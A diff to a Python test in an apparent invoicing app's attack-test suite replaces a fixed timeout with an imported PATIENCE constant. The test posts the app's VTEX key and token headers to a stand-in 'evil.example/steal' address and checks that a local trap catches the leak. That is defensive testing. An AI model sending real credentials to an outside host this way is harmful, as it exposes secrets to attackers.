@@ -13,6 +13,7 @@ from desktop_invoicer.simulator import APP_KEY, APP_TOKEN
 from desktop_invoicer.vtex.client import make_http_client
 from tests.attack.world import OWN_HOSTS, World, a_world
 from tests.flow.desk_process import ACCOUNT
+from tests.waiting import PATIENCE
 
 OWN = OWN_HOSTS[0]
 
@@ -220,7 +221,9 @@ async def test_the_trap_would_have_seen_it(world: World) -> None:
     headers = {"X-VTEX-API-AppKey": APP_KEY, "X-VTEX-API-AppToken": APP_TOKEN}
     async with make_http_client() as http:
         with pytest.raises(httpx.HTTPError):
-            await http.post("https://evil.example/steal", headers=headers, json={"invoiceValue": "9990"}, timeout=1.5)
+            await http.post(
+                "https://evil.example/steal", headers=headers, json={"invoiceValue": "9990"}, timeout=PATIENCE
+            )
 
     assert APP_TOKEN.encode() in world.trap.wait()
     assert world.net.attempts == [("127.9.0.1", 443)]
